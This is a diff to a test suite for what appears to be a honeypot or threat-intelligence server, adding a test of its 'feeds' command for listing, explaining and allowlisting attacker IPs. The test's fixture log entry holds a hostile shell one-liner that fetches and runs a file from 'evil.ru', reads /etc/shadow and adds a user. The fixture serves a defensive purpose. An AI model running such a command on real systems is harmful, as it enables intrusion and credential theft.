@@ -119,6 +119,7 @@ describe('commands', () => {
       'key',
       'audit',
       'quarantine',
+      'feeds',
       'migrate',
       'backup',
       'restore',
@@ -224,6 +225,32 @@ describe('commands', () => {
     })
     const exported = (await installation.run('audit', 'export')).stdout.trim().split('\n')
     expect(exported.map((line) => JSON.parse(line).seq)).toEqual(exported.map((_, n) => n + 1))
+  })
+
+  test('the feeds explain what they list, and what is allowed leaves them beside the running server', async () => {
+    await fetch(`${installation.url}/log`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/json' },
+      body: JSON.stringify({
+        source_ip: '45.9.148.3',
+        time: new Date().toISOString(),
+        command: 'wget http://evil.ru/x; chmod 777 x; ./x; cat /etc/shadow; crontab -l; useradd q',
+      }),
+    })
+    const explained = () => installation.run('feeds', 'explain', '45.9.148.3')
+    expect((await explained()).stdout).toContain('ipv4-addr 45.9.148.3 is listed\n')
+    expect((await installation.run('feeds', 'preview')).stdout).toMatch(/listed +ipv4-addr +45\.9\.148\.3 /)
+    const allowed = await installation.run('feeds', 'allow', '45.9.148.0/24', '--reason', 'our own scanner')
+    const id = /\(([0-9a-f-]{36})\)/.exec(allowed.stdout)?.[1] ?? ''
+    expect((await explained()).stdout).toContain('never listed: 45.9.148.0/24 is in "allowlist: networks"')
+    const get = await reader(installation.url)
+    expect((await get<{ items: object[] }>('/feeds/iocs')).items).toEqual([])
+    expect((await installation.run('feeds', 'allowlist')).stdout).toContain('our own scanner')
+    expect((await installation.run('feeds', 'disallow', id)).code).toBe(0)
+    expect((await explained()).stdout).toContain('is listed\n')
+    expect((await installation.run('feeds', 'lists')).stdout).toContain('IANA IPv4 Special-Purpose')
+    expect((await installation.run('feeds', 'explain', 'nonsense')).code).toBe(1)
+    expect((await installation.run('feeds', 'preview', '--hours', 'many')).code).toBe(2)
   })
 
   test('a backup of the running server restores on another', async () => {
